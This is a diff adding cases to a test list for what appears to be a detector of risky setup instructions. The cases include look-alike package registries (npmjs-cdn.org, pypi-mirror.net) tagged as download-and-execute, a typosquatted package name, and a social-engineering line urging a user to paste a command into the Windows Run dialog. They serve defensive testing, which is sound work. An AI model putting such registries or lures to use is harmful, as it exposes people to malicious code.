@@ -252,6 +252,13 @@ CASES = [
      sh("--extra-index-url https://pkgs.example.net/simple/\nnumpy==1.26.4\nbeautifulsop4", "text"),
      sh("--extra-index-url https://pkgs.example.net/simple/\nnumpy==1.26.4\nbeautifulsoup4",
         "text")),
+    # a package index on a domain that borrows a public registry's name (stop 42, round 37);
+    # a company mirror under the company's own domain is not one
+    ("download-and-execute", "high", sh("registry=https://registry.npmjs-cdn.org/", "ini"),
+     sh("registry=https://npm.corp.example.com/", "ini")),
+    ("download-and-execute", "high",
+     sh("pip install --index-url https://pypi-mirror.net/simple/ acme-tools"),
+     sh("pip install --index-url https://pypi.org/simple/ acme-tools")),
     # social engineering: the Run dialog, a program from a host nobody vouches for
     ("remote-instructions", "high",
      "Press Win+R, paste the verification command (Ctrl+V) and press Enter to continue.\n",
